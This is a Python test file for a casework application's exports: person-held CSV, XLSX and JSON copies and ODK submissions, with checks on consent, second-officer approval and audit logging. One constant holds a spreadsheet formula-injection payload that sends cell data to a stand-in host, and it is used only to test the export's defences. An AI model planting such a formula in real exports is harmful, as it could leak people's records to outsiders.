"""Open forms of exit: the person's own copy, and records that an ODK server takes."""

import csv
import io
import json
import subprocess
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from uuid import UUID

import pytest
from lxml import etree
from openpyxl import load_workbook
from tests.exchange.sharing import came_from, publishes, takes_down
from tests.given import PICTURE, Office

from sarana import language
from sarana.errors import (
    ConsentNotGiven,
    ConsentWithdrawn,
    NothingToCopy,
    NotOursToCopy,
    ReasonMissing,
    SecondOfficerNeeded,
)
from sarana.exchange import OWN_POST, export, origins
from sarana.exchange.copies import (
    Submission,
    copy_of_case,
    save_submissions,
    submission_of_record,
)
from sarana.exchange.leaving import BULK
from sarana.exchange.withdrawing import withdraw
from sarana.forms import Interview
from sarana.forms.interview import Reopening
from sarana.progress import Cancelled
from sarana.seal.signature import verify
from sarana.vault import Agreement, Cost, NewOfficer
from sarana.vault.second_officer import NAMESPACE as FOUR_EYES
from sarana.vault.second_officer import statement

PROJECT = Path(__file__).resolve().parents[2]
ORACLES = PROJECT / ".oracles" / "node_modules"
FORMULA = '=HYPERLINK("http://example.invalid/"&A1)'


def copied(office: Office, case: str, kind: str, code: str = "en") -> bytes:
    return copy_of_case(office.store, office.vault, case, kind, language.catalog(code))


def rows_of(table: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(table.decode("utf-8-sig"))))


def head_of(office: Office, case: str) -> str:
    return office.store.heads(office.record_of(case))[-1]


def submitted(office: Office, case: str) -> Submission:
    return submission_of_record(office.store, office.vault, head_of(office, case))


# ---- the person's own copy


def test_the_copy_says_every_signed_answer_in_words_and_as_code(border_post: Office) -> None:
    case = border_post.takes_down(consent="yes", name_khmer="ឧទាហរណ៍ សុខា", name_chinese="范例小明")
    table = rows_of(copied(border_post, case, "csv", "km"))
    assert [row[4:7] for row in table if row[4] == "តើអ្នកយល់ព្រមទេ?"] == [["តើអ្នកយល់ព្រមទេ?", "បាទ/ចាស", "yes"]]
    assert {"ឧទាហរណ៍ សុខា", "范例小明"} <= {row[5] for row in table}


def test_what_is_only_a_draft_is_never_copied(border_post: Office) -> None:
    with pytest.raises(NothingToCopy):
        copied(border_post, border_post.begins_a_case(family_name="EXAMPLE"), "csv")


def test_a_draft_begun_after_signing_stays_out(border_post: Office) -> None:
    case = border_post.takes_down(story="first")
    border_post.store.reopen(border_post.record_of(case))
    border_post.writes(case, story="not yet signed")
    assert b"not yet signed" not in copied(border_post, case, "json")
    assert b"first" in copied(border_post, case, "json")


@pytest.mark.parametrize("answer", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "＝1+1", "\t=1"])
def test_no_answer_becomes_a_formula(border_post: Office, answer: str) -> None:
    case = border_post.takes_down(story=answer)
    cells = [cell for row in rows_of(copied(border_post, case, "csv")) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "＝", "\t"))]
    book = load_workbook(io.BytesIO(copied(border_post, case, "xlsx")))
    kinds = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row}
    assert kinds <= {"s", "inlineStr", "n"}  # "n" is an empty cell; a formula would be "f"


def test_a_workbook_gives_the_answer_back_unchanged(border_post: Office) -> None:
    case = border_post.takes_down(story=FORMULA)
    book = load_workbook(io.BytesIO(copied(border_post, case, "xlsx")))
    assert FORMULA in {cell.value for sheet in book for row in sheet.iter_rows() for cell in row}


def test_json_names_who_signed_and_with_which_form(border_post: Office) -> None:
    case = border_post.takes_down(story="told")
    record = json.loads(copied(border_post, case, "json"))["records"][0]
    assert record["signed_by"]["name"] == border_post.vault.officer.name
    assert (record["form_version"], record["revision"]) == ("1", border_post.store.heads(record["record"])[0])
    assert {
        each["ref"].rsplit("/")[-1]: each["value"] for each in record["answers"] if each["value"] == "told"
    } == {"story": "told"}


def test_who_took_a_copy_out_stands_in_the_journal(border_post: Office) -> None:
    case = border_post.takes_down(story="told")
    copied(border_post, case, "csv")
    submitted(border_post, case)
    assert [entry.action for entry in border_post.vault.journal_entries(limit=2)] == [
        "copy.submission",
        "copy.case",
    ]


# ---- what other offices handed over


def test_what_another_office_handed_over_is_in_no_copy(
    border_post: Office, embassy: Office, tmp_path: Path
) -> None:
    """It is theirs to give (R20); what was signed here is copied all the same."""
    case = border_post.takes_down(story="ours")
    theirs = came_from(border_post, embassy, case, case, "ab" * 16)
    assert origins.of_case(border_post.store, border_post.vault, theirs) == ("Example Embassy 示例",)
    assert len(json.loads(copied(border_post, case, "json"))["records"]) == 1
    assert save_submissions(border_post.store, border_post.vault, case, tmp_path / "odk") == 1
    with pytest.raises(NotOursToCopy):
        (head,) = border_post.store.heads("ab" * 16)
        submission_of_record(border_post.store, border_post.vault, head)


def test_a_case_that_is_all_another_offices_is_not_copied(
    border_post: Office, embassy: Office, tmp_path: Path
) -> None:
    case = came_from(border_post, embassy, border_post.takes_down(story="ours"), "cd" * 16, "ab" * 16)
    with pytest.raises(NotOursToCopy) as refused:
        copied(border_post, case, "csv")
    assert refused.value.organisations == ("Example Embassy 示例",)
    with pytest.raises(NotOursToCopy):
        save_submissions(border_post.store, border_post.vault, case, tmp_path / "odk")
    assert not (tmp_path / "odk").exists()


# ---- whom the person wants to be told


def test_a_server_gets_nothing_once_the_person_took_their_consent_back(
    border_post: Office, tmp_path: Path
) -> None:
    """Their own copy they get all the same."""
    case = border_post.takes_down(story="told")
    withdraw(border_post.store, border_post.vault, case)
    with pytest.raises(ConsentWithdrawn):
        save_submissions(border_post.store, border_post.vault, case, tmp_path / "odk")
    with pytest.raises(ConsentWithdrawn):
        submitted(border_post, case)
    assert not (tmp_path / "odk").exists()
    assert b"told" in copied(border_post, case, "csv")


def test_a_server_gets_nothing_of_a_person_who_wants_nobody_to_be_told(
    border_post: Office, tmp_path: Path
) -> None:
    publishes(border_post)
    case = takes_down(border_post, sharing="nobody")
    with pytest.raises(ConsentNotGiven):
        save_submissions(border_post.store, border_post.vault, case, tmp_path / "odk")
    with pytest.raises(ConsentNotGiven):
        submitted(border_post, case)
    assert not (tmp_path / "odk").exists()


# ---- many on one day


class TestManyCopiesOnOneDay:
    """From two cases on, a second officer agrees, whichever way the cases leave."""

    REASON = "The post is moving."
    WORDS = "nine red lanterns at dusk"

    @pytest.fixture
    def dara(self, border_post: Office) -> str:
        """The second officer's id."""
        border_post.vault.four_eyes.set_most_alone(BULK, 1, Agreement(alone="we are two"))
        new = NewOfficer("Sample Dara", "Example Immigration", role="case_officer")
        return border_post.vault.staff.add(new, self.WORDS, cost=Cost.floor()).id

    @pytest.fixture
    def cases(self, border_post: Office, dara: str) -> tuple[str, str]:
        """Two cases, one of which has left."""
        first, second = border_post.takes_down(story="one"), border_post.takes_down(story="two")
        copied(border_post, first, "csv")
        return first, second

    def test_the_same_case_again_is_no_further_one(
        self, border_post: Office, cases: tuple[str, str], tmp_path: Path
    ) -> None:
        copied(border_post, cases[0], "json")
        assert save_submissions(border_post.store, border_post.vault, cases[0], tmp_path / "odk") == 1

    def test_nobody_takes_the_next_one_out_alone(
        self, border_post: Office, cases: tuple[str, str], tmp_path: Path
    ) -> None:
        before = border_post.what_it_holds()
        store, vault, case = border_post.store, border_post.vault, cases[1]
        ways: list[Callable[[Agreement], object]] = [
            lambda agreement: copy_of_case(
                store, vault, case, "csv", language.catalog("en"), agreement=agreement
            ),
            lambda agreement: save_submissions(store, vault, case, tmp_path / "odk", agreement=agreement),
            lambda agreement: submission_of_record(
                store, vault, head_of(border_post, case), agreement=agreement
            ),
        ]
        for way in ways:
            with pytest.raises(ReasonMissing):
                way(Agreement())
            with pytest.raises(SecondOfficerNeeded):
                way(Agreement(alone=self.REASON))
        assert border_post.what_it_holds() == before
        assert not (tmp_path / "odk").exists()

    def test_with_a_second_officer_it_leaves_and_the_journal_says_so(
        self, border_post: Office, cases: tuple[str, str], dara: str
    ) -> None:
        second = border_post.vault.second_officer(dara, self.WORDS)
        agreement = Agreement(second, alone=self.REASON)
        made = copy_of_case(
            border_post.store, border_post.vault, cases[1], "csv", language.catalog("en"), agreement=agreement
        )
        assert b"two" in made
        taken, agreed, why = border_post.vault.journal_entries(limit=3)
        assert [why.action, agreed.action, taken.action] == ["override", "agreed", "copy.case"]
        assert {each.object for each in (taken, agreed, why)} == {cases[1]}
        said = statement(BULK, cases[1], border_post.vault.officer.id)
        assert verify(said, str(agreed.detail["signature"]), FOUR_EYES) == second.officer.public_key

    def test_bundles_and_copies_are_counted_together(
        self, border_post: Office, sister_post: Office, cases: tuple[str, str], tmp_path: Path
    ) -> None:
        sister = border_post.knows(sister_post, OWN_POST)
        with pytest.raises(ReasonMissing):
            export(border_post.store, border_post.vault, cases, [sister], to=tmp_path)

    def test_the_next_day_the_count_begins_anew(self, border_post: Office, cases: tuple[str, str]) -> None:
        tomorrow = datetime.now(UTC) + timedelta(days=1, minutes=1)
        submission_of_record(
            border_post.store, border_post.vault, head_of(border_post, cases[1]), now=tomorrow
        )


def test_a_copy_that_is_cancelled_leaves_no_file_in_the_open(border_post: Office, tmp_path: Path) -> None:
    case = border_post.takes_down(story="told")

    def cancel(done: int, total: int) -> None:
        if (tmp_path / "odk" / "1").exists():
            raise Cancelled

    with pytest.raises(Cancelled):
        save_submissions(border_post.store, border_post.vault, case, tmp_path / "odk", cancel)
    assert not (tmp_path / "odk").exists()


# ---- for an ODK server


def test_a_submission_has_the_form_its_version_its_answers_and_its_files(border_post: Office) -> None:
    case = border_post.takes_down(story="told", photo="face.png", files={"face.png": PICTURE})
    made = submitted(border_post, case)
    top = etree.fromstring(made.document)
    form = border_post.store.current_form()
    assert (top.get("id"), top.get("version")) == (form.id, "1")
    assert (top.findtext("story"), top.findtext("photo")) == ("told", "face.png")
    assert made.files == {"face.png": PICTURE}
    assert top.findtext("meta/instanceID") == made.instance_id
    assert UUID(made.instance_id.removeprefix("uuid:")).version == 4


def test_a_submission_is_the_same_to_the_byte_however_often_it_is_made(border_post: Office) -> None:
    case = border_post.takes_down(story="told")
    assert submitted(border_post, case) == submitted(border_post, case)


def test_a_later_version_says_which_submission_it_takes_the_place_of(border_post: Office) -> None:
    case = border_post.takes_down(story="first")
    before = submitted(border_post, case)
    border_post.continues(case, story="second")
    top = etree.fromstring(submitted(border_post, case).document)
    assert top.findtext("meta/deprecatedID") == before.instance_id
    assert top.findtext("meta/instanceID") != before.instance_id


def test_another_program_opens_the_submission_with_every_answer(border_post: Office) -> None:
    case = border_post.takes_down(story="told", consent="yes", family_name="EXAMPLE")
    signed = border_post.store.revision(border_post.store.heads(border_post.record_of(case))[0]).snapshot
    assert signed is not None
    form = border_post.store.form(signed.form_sha256)
    again = Interview.reopen(form, submitted(border_post, case).document, Reopening.RESTORE)
    meta = {ref for ref in signed.values if "/meta/" in ref}
    told = {ref: value for ref, value in again.final_snapshot().values.items() if ref not in meta}
    assert told == {ref: value for ref, value in signed.values.items() if ref not in meta}


@pytest.mark.tools
def test_the_web_forms_engine_edits_the_submission(border_post: Office, tmp_path: Path) -> None:
    if not (ORACLES / "@getodk" / "xforms-engine").is_dir():
        pytest.skip("@getodk/xforms-engine is not installed in .oracles")
    case = border_post.takes_down(story="told", family_name="EXAMPLE")
    signed = border_post.store.revision(border_post.store.heads(border_post.record_of(case))[0]).snapshot
    assert signed is not None
    form, instance = tmp_path / "form.xml", tmp_path / "submission.xml"
    form.write_bytes(border_post.store.form(signed.form_sha256).source.xform)
    instance.write_bytes(submitted(border_post, case).document)
    script = Path(__file__).with_name("edit_instance.mjs")
    command = ["node", str(script), str(ORACLES), str(form), str(instance)]
    ran = subprocess.run(command, capture_output=True, text=True, timeout=120)
    assert ran.returncode == 0, ran.stderr
    values = json.loads(ran.stdout)
    assert (values["/data/story"], values["/data/family_name"]) == ("told", "EXAMPLE")
